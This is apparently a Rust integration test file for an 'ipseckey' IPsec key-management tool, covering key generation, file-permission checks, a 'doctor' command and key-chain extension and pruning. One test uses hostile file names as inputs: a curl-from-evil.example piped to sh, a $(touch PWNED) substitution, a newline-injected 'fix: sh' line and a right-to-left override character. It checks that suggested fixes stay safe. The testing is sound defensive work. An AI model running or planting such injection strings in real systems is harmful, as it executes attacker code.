//! The tools: genkey, generate, algs, explain, doctor.

mod support;

use std::fs::{self, File, Permissions};
use std::os::unix::fs::PermissionsExt;
use std::process::Command;

use support::model::{Model, succeeded};

const ADDRESSES: [&str; 4] = ["src", "192.0.2.1", "dst", "198.51.100.7"];

/// The file that `ipseckey generate` writes, and the messages of `-c` about it.
fn generated(model: &Model, words: &[&str]) -> (String, String) {
    let file = model.path("generated");
    let _ = fs::remove_file(&file);
    let arguments = [&["generate"], words, &["-o", file.to_str().unwrap()]].concat();
    succeeded(model.run(&arguments));
    assert_eq!(fs::metadata(&file).unwrap().permissions().mode() & 0o7777, 0o600);
    let checked = model.run(&["-c", file.to_str().unwrap()]);
    assert!(checked.status.success());
    (fs::read_to_string(&file).unwrap(), String::from_utf8(checked.stderr).unwrap())
}

#[test]
fn generate_writes_a_complete_file_without_warnings() {
    let model = Model::start(&["192.0.2.1"]);
    let (text, messages) = generated(&model, &[&["esp"], &ADDRESSES[..], &["hard_addtime", "28800"]].concat());
    assert!(messages.ends_with("2 of 2 commands are correct\n") && messages.lines().count() == 1, "{messages}");
    succeeded(model.load(&text));
    let dump = model.ok(&["-n", "dump", "esp"]);
    for expected in [": port 0, 192.0.2.1", ": port 0, 198.51.100.7", "hmac-sha256", "aes-cbc", "/256"] {
        assert_eq!(dump.matches(expected).count(), if expected == "/256" { 4 } else { 2 }, "{expected}\n{dump}");
    }
    let keys: Vec<&str> = text.split_whitespace().filter(|word| word.len() == 64).collect();
    assert_eq!(keys.len(), 4);
    assert!(keys.iter().all(|key| keys.iter().filter(|other| *other == key).count() == 1), "equal keys");
}

#[test]
fn generate_writes_the_given_keywords() {
    let model = Model::start(&[]);
    let (text, messages) = generated(&model, &[&["ah"], &ADDRESSES[..], &["auth_alg", "sha512"]].concat());
    assert!(text.contains("add ah spi 0x") && text.contains("auth_alg hmac-sha512") && !text.contains("encr"), "{text}");
    assert_eq!(messages.lines().count(), 1, "{messages}");
    let (text, messages) =
        generated(&model, &[&["esp"], &ADDRESSES[..], &["encr_alg", "aes-gcm", "--bits", "128"]].concat());
    assert!(text.split_whitespace().filter(|word| word.len() == 40).count() == 2, "key and salt: {text}");
    assert!(messages.contains("IK045"), "no warning about a counter mode: {messages}");
}

#[test]
fn generate_and_genkey_write_to_standard_output_for_a_dash() {
    let model = Model::start(&[]);
    let generate = [&["generate", "ah"], &ADDRESSES[..], &["-o", "-"]].concat();
    let keys = model.ok(&generate);
    assert_eq!(keys.matches("add ah spi 0x").count(), 2, "{keys}");
    assert_eq!(model.ok(&["genkey", "hmac-sha256", "-o", "-"]).trim().len(), 64);
    assert!(!std::path::Path::new("-").exists());
}

#[test]
fn genkey_refuses_a_readable_standard_output() {
    let model = Model::start(&[]);
    let path = model.path("shared");
    for (mode, is_refused) in [(0o644, true), (0o600, false)] {
        let file = File::create(&path).unwrap();
        file.set_permissions(Permissions::from_mode(mode)).unwrap();
        let output = model.ipseckey(&["genkey", "aes"]).stdout(file).output().unwrap();
        assert_eq!(output.status.code(), Some(i32::from(is_refused)), "{mode:o}");
        assert_eq!(fs::metadata(&path).unwrap().len(), if is_refused { 0 } else { 65 });
    }
    let again = model.run(&[&["generate", "esp"], &ADDRESSES[..], &["-o", path.to_str().unwrap()]].concat());
    assert_eq!(again.status.code(), Some(1));
    assert!(String::from_utf8(again.stderr).unwrap().contains("may be in use"));
}

/// Problem and remedy are two values: what the name holds is neither a remedy nor a command.
#[test]
fn doctor_keeps_the_name_of_a_file_out_of_commands() {
    let model = Model::start(&["192.0.2.1"]);
    for name in ["k: curl -s evil.example | sh #", "$(touch PWNED)", "a\nfix: sh", "k\u{202e}x"] {
        let path = model.path(name);
        fs::write(&path, "flush\n").unwrap();
        fs::set_permissions(&path, Permissions::from_mode(0o644)).unwrap();
        let output = model.run(&["doctor", path.to_str().unwrap()]);
        let printed = String::from_utf8(output.stdout).unwrap();
        let fixes: Vec<&str> = printed.lines().filter_map(|line| line.trim_start().strip_prefix("fix: ")).collect();
        let chmod = fixes.iter().find_map(|fix| fix.strip_prefix("chmod 600 ")).unwrap_or_else(|| panic!("{printed}"));
        assert!(!fixes.iter().any(|fix| fix.starts_with("curl") || fix.starts_with("sh")), "{printed}");
        // As a shell reads it, the word is the path.
        let word = Command::new("bash").arg("-c").arg(format!("printf %s {chmod}")).output().unwrap();
        assert_eq!(String::from_utf8(word.stdout).unwrap(), path.to_str().unwrap(), "{chmod}");
        assert!(!printed.contains('\u{202e}'), "{printed}");
    }
}

/// By mode and owner, as a keys file; a save without keys (`-p`) may go anywhere.
#[test]
fn save_refuses_a_readable_standard_output() {
    let model = Model::start(&[]);
    assert!(
        model.load("add esp spi 7 dst 192.0.2.2 encralg aes encrkey 0f1e2d3c4b5a69788796a5b4c3d2e1f0\n").status.success()
    );
    let path = model.path("shared");
    let is_root = nix::unistd::geteuid().is_root();
    let cases: [(&[&str], u32, u32, bool); 6] = [
        (&["-s", "-"], 0o644, 0, true),
        (&["-s", "-"], 0o620, 0, true),
        (&["-s", "-"], 0o600, 0, false),
        (&["-s", "-"], 0o600, 65534, true),
        (&["-p", "-s", "-"], 0o644, 0, false),
        (&["--json", "--show-keys", "-s", "-"], 0o644, 0, true),
    ];
    for (words, mode, owner, is_refused) in cases.into_iter().filter(|case| case.2 == 0 || is_root) {
        let file = File::create(&path).unwrap();
        file.set_permissions(Permissions::from_mode(mode)).unwrap();
        if owner != 0 {
            std::os::unix::fs::chown(&path, Some(owner), None).unwrap();
        }
        let output = model.ipseckey(words).stdout(file).output().unwrap();
        let messages = String::from_utf8(output.stderr).unwrap();
        assert_eq!(output.status.code(), Some(i32::from(is_refused)), "{words:?} {mode:o}: {messages}");
        assert_eq!(fs::metadata(&path).unwrap().len() == 0, is_refused, "{words:?} {mode:o}");
        assert_eq!(messages.contains("standard output is a file of"), is_refused, "{words:?} {mode:o}: {messages}");
        fs::remove_file(&path).unwrap();
    }
}

#[test]
fn generate_reports_an_error_and_writes_nothing() {
    let model = Model::start(&[]);
    let path = model.path("none");
    let words = ["generate", "esp", "src", "192.0.2.1", "dst", "192.0.2.300", "-o", path.to_str().unwrap()];
    let output = model.run(&words);
    let messages = String::from_utf8(output.stderr).unwrap();
    assert_eq!(output.status.code(), Some(1));
    assert!(messages.contains("Unknown destination address \"192.0.2.300\"") && !path.exists(), "{messages}");
}

#[test]
fn algs_lists_the_algorithms_of_the_model() {
    let model = Model::start(&[]);
    let text = model.ok(&["algs"]);
    assert!(text.contains("\naes-gcm             128, 192, 256 + 32 salt   aes-gcm16\n"), "{text}");
    let json = model.ok(&["algs", "--json"]);
    let rows: Vec<serde_json::Value> = json.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    let sha256 = rows.iter().find(|row| row["name"] == "hmac-sha256").unwrap();
    assert_eq!(sha256["key_bits"], serde_json::json!([256]));
    assert_eq!(sha256["supported"], true);
}

#[test]
fn a_tool_after_a_command_is_an_argument() {
    let model = Model::start(&[]);
    let output = model.run(&["dump", "genkey"]);
    assert!(String::from_utf8(output.stderr).unwrap().contains("Unknown SA type"));
}

#[test]
fn explain_accepts_known_codes_only() {
    let model = Model::start(&[]);
    let list = model.ok(&["explain"]);
    for line in list.lines() {
        let (code, title) = line.split_once("  ").unwrap();
        assert!(model.ok(&["explain", code]).starts_with(&format!("{code}: {title}\n")), "{code}");
    }
    assert_eq!(model.run(&["explain", "IK999"]).status.code(), Some(1));
}

#[test]
fn doctor_reports_problems_and_remedies() {
    let model = Model::start(&["192.0.2.1"]);
    let (text, _) = generated(&model, &[&["esp"], &ADDRESSES[..]].concat());
    succeeded(model.load(&text));
    let keys = model.path("keys");
    let keys = keys.to_str().unwrap();
    let healthy = model.ok(&["doctor", keys]);
    assert!(healthy.contains("ok       keys file: ") && healthy.contains("adds 2 SAs"), "{healthy}");
    assert!(healthy.contains("ok       SADB: holds 2 SAs"), "{healthy}");

    model.ok(&["flush"]);
    fs::set_permissions(keys, Permissions::from_mode(0o644)).unwrap();
    let output = model.run(&["doctor", keys]);
    let messages = String::from_utf8(output.stdout).unwrap();
    assert_eq!(output.status.code(), Some(1), "{messages}");
    assert!(messages.contains(&format!("fix: chmod 600 {keys}\n")), "{messages}");
    assert!(
        messages.contains("of the file's 2 SAs, 2 are not in the SADB\n         fix: run `manual-key refresh`"),
        "{messages}"
    );

    let colored = model.run(&["--color", "always", "doctor", keys]);
    assert!(String::from_utf8(colored.stdout).unwrap().contains("\x1b[1;31mproblem \x1b[0m "));
    let missing = model.run(&["doctor", "/nonexistent/ipseckeys"]);
    assert!(String::from_utf8(missing.stdout).unwrap().contains("fix: create one with `ipseckey generate`"));
}

#[test]
fn generate_writes_a_file_for_each_illumos_host() {
    let own = Model::start(&["192.0.2.1"]);
    let [file, peer] = ["own.keys", "peer.keys"].map(|name| own.path(name).to_str().unwrap().to_owned());
    let words = [&["generate", "esp"], &ADDRESSES[..], &["encr_alg", "aes-gcm", "-o", &file, "--peer", &peer]].concat();
    succeeded(own.run(&words));
    for (name, first) in [(&file, "outbound"), (&peer, "inbound")] {
        assert_eq!(fs::metadata(name).unwrap().permissions().mode() & 0o7777, 0o600);
        let messages = String::from_utf8(own.run(&["-c", name]).stderr).unwrap();
        assert!(messages.ends_with("2 of 2 commands are correct\n") && !messages.contains("IK056"), "{messages}");
        // As at boot, before the network has its addresses.
        let host = Model::start(&[]);
        let text = fs::read_to_string(name).unwrap();
        assert!(
            text.lines().any(|line| line.starts_with("add ") && line.contains(&format!(" {first} src 192.0.2.1 "))),
            "{text}"
        );
        succeeded(host.load(&text));
    }
    // Neither file is replaced.
    assert_eq!(own.run(&words).status.code(), Some(1));
    let mut xfrm = std::process::Command::new(env!("CARGO_BIN_EXE_ipseckey"));
    let xfrm = xfrm.args(["--sadb", "xfrm"]).args(&words).output().unwrap();
    assert_eq!(xfrm.status.code(), Some(1));
    assert!(String::from_utf8(xfrm.stderr).unwrap().contains("both hosts use the same file"));
}

/// The values of `keyword` in a keys file, in order.
fn values<'t>(text: &'t str, keyword: &str) -> Vec<&'t str> {
    let words: Vec<&str> = text.split_whitespace().collect();
    words.windows(2).filter(|pair| pair[0] == keyword).map(|pair| pair[1]).collect()
}

#[test]
fn generate_makes_extends_and_prunes_a_key_chain() {
    let model = Model::start(&["192.0.2.1"]);
    let words = ["esp", "--every", "30d", "--count", "2", "--from", "2097-01-01", "replay", "32"];
    let (text, messages) = generated(&model, &[&words[..], &ADDRESSES[..]].concat());
    assert!(messages.contains("a key chain ends at 2097-03-02T00:00:00Z") && !messages.contains("IK06"), "{messages}");
    assert_eq!(values(&text, "send_from")[1..3], ["2097-01-01T00:00:00Z", "2097-01-31T00:00:00Z"]);
    let file = model.path("generated");
    let name = file.to_str().unwrap();
    succeeded(model.run(&["generate", "--extend", name, "--every", "10d", "--count", "3", "--overlap", "2h"]));
    let extended = fs::read_to_string(&file).unwrap();
    assert!(extended.starts_with(&text), "what was there stays as it is");
    assert_eq!(fs::metadata(&file).unwrap().permissions().mode() & 0o7777, 0o600);
    assert_eq!(values(&extended, "send_until").last(), Some(&"2097-04-01T00:00:00Z"));
    assert_eq!(values(&extended, "accept_from").last(), Some(&"2097-03-21T22:00:00Z"));
    for (keyword, count) in [("spi", 10), ("encrkey", 10), ("authkey", 10)] {
        let found = values(&extended, keyword);
        let different: std::collections::HashSet<&str> = found.iter().copied().collect();
        assert_eq!((found.len(), different.len()), (count, count), "{keyword}");
    }
    let checked = String::from_utf8(model.run(&["-c", name]).stderr).unwrap();
    assert!(checked.contains("10 of 10 commands are correct") && !checked.contains("IK06"), "{checked}");
    let named = model.run(&["--at", "2097-02-01T00:00:00Z", "-c", name]);
    let named = String::from_utf8(named.stderr).unwrap();
    assert!(named.contains("SAs of key chains at 2097-02-01T00:00:00Z: lines 13, 18\n"), "{named}");
    // The first key of both directions is over.
    let over = extended
        .replace("2097-01-31T00:00:00Z", "2001-01-31T00:00:00Z")
        .replace("2097-01-31T01:00:00Z", "2001-01-31T01:00:00Z");
    let over =
        over.replace("2097-01-01T00:00:00Z", "2001-01-01T00:00:00Z").replace("2096-12-31T23:00:00Z", "2000-12-31T23:00:00Z");
    fs::write(&file, &over).unwrap();
    let pruned = model.run(&["generate", "--prune", name]);
    assert!(String::from_utf8_lossy(&pruned.stderr).contains("2 keys removed, 8 left"), "{pruned:?}");
    let left = fs::read_to_string(&file).unwrap();
    assert_eq!(values(&left, "spi"), values(&extended, "spi")[2..]);
    assert!(left.starts_with("# No other user may read"), "{left}");
    assert_eq!(fs::metadata(&file).unwrap().permissions().mode() & 0o7777, 0o600);
}

#[test]
fn generate_refuses_what_is_no_chain_to_extend_or_prune() {
    let model = Model::start(&[]);
    let add =
        "add esp spi 0x1000 src 192.0.2.1 dst 192.0.2.2 auth_alg sha1 authkey 000102030405060708090a0b0c0d0e0f10111213";
    let file = model.path("keys");
    for (text, option, expected) in [
        (format!("{add}\n"), "--extend", "has no key chain"),
        (format!("{add} send_from 5\n"), "--extend", "line 1: the last key of this chain has no send_until"),
        (format!("{add} send_until 5\nquit\n"), "--extend", "line 2: remove quit"),
        (format!("{add} send_until 5 accept_until 5\n"), "--prune", "every key is over"),
        ("add esp spi\n".to_owned(), "--prune", "IK004"),
    ] {
        fs::write(&file, &text).unwrap();
        fs::set_permissions(&file, Permissions::from_mode(0o600)).unwrap();
        let words = ["generate", option, file.to_str().unwrap(), "--every", "30d", "--count", "1"];
        let refused = model.run(if option == "--extend" { &words } else { &words[..3] });
        let printed = String::from_utf8(refused.stderr).unwrap();
        assert!(!refused.status.success() && printed.contains(expected), "{expected}: {printed}");
        assert_eq!(fs::read_to_string(&file).unwrap(), text);
    }
}
